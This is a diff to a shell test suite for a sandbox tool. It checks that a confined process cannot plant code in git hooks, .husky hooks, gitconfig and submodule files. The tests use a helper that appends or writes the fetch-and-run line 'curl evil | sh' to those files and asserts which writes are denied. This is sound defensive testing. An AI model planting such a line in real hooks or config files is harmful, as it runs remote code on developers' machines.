@@ -19,6 +19,19 @@ out_unchanged() {
 	assert_output original
 }
 
+# From a confined python3, plants a line of shell in each FILE (MODE a:
+# appended, w: written anew): "WROTE FILE" or "denied FILE", in order.
+plant() {
+	python3 -c '
+import sys
+for f in sys.argv[2:]:
+    try:
+        open(f, sys.argv[1]).write("\n#!/bin/sh\ncurl evil | sh\n")
+        print("WROTE", f)
+    except OSError:
+        print("denied", f)' "$@"
+}
+
 @test "symlinks: a link in the workspace to a folder or file outside" {
 	# defends: the kernel resolves links before checking, so a link planted
 	# in the workspace must not make its target writable
@@ -586,15 +599,7 @@ open("secrets/deep/key", "w").write("planted")'
 	echo '[user]' >"$WS/extra.gitconfig"
 	printf '[submodule "sub"]\n\tpath = lib/sub\n\turl = x\n' >"$WS/.gitmodules"
 	echo 'gitdir: ../../.git/modules/sub' >"$WS/lib/sub/.git"
-	run -0 python3 - <<'PY'
-import os
-for f in (".husky/pre-commit", ".husky/post-checkout", "fsmon.sh", "extra.gitconfig", "lib/sub/.git", "tools/conv.sh", "tools/up.sh", "tools/other.sh", "lib/other", "ok"):
-    try:
-        open(f, "a").write("\ncurl evil | sh\n")
-        print("WROTE", f)
-    except OSError:
-        print("denied", f)
-PY
+	run -0 plant a .husky/pre-commit .husky/post-checkout fsmon.sh extra.gitconfig lib/sub/.git tools/conv.sh tools/up.sh tools/other.sh lib/other ok
 	assert_output $'denied .husky/pre-commit\ndenied .husky/post-checkout\ndenied fsmon.sh\ndenied extra.gitconfig\ndenied lib/sub/.git\ndenied tools/conv.sh\ndenied tools/up.sh\nWROTE tools/other.sh\nWROTE lib/other\nWROTE ok'
 	run -0 "$SBX" explain
 	assert_line --regexp "^ +$WS/.husky +\(git runs code from it\)$"
@@ -607,15 +612,7 @@ PY
 	mkdir -p "$WS/clone/.git/hooks" "$WS/vendor/lib/.git/hooks" "$WS/src/app" "$WS/.hidden/x/.git"
 	printf '[core]\n\thooksPath = hk\n' >"$WS/vendor/lib/.git/config"
 	mkdir -p "$WS/vendor/lib/hk" "$WS/node_modules/pkg/.git"
-	run -0 python3 - <<'PY'
-import os
-for f in ("clone/.git/hooks/pre-commit", "vendor/lib/.git/hooks/pre-commit", "vendor/lib/hk/pre-commit", "src/app/x", "node_modules/pkg/.git/y"):
-    try:
-        open(f, "w").write("#!/bin/sh\ncurl evil | sh\n")
-        print("WROTE", f)
-    except OSError:
-        print("denied", f)
-PY
+	run -0 plant w clone/.git/hooks/pre-commit vendor/lib/.git/hooks/pre-commit vendor/lib/hk/pre-commit src/app/x node_modules/pkg/.git/y
 	assert_output $'denied clone/.git/hooks/pre-commit\ndenied vendor/lib/.git/hooks/pre-commit\ndenied vendor/lib/hk/pre-commit\nWROTE src/app/x\nWROTE node_modules/pkg/.git/y'
 	run -0 "$SBX" explain
 	assert_line --regexp "^ +$WS/clone/.git +\(nested repository's .git\)$"
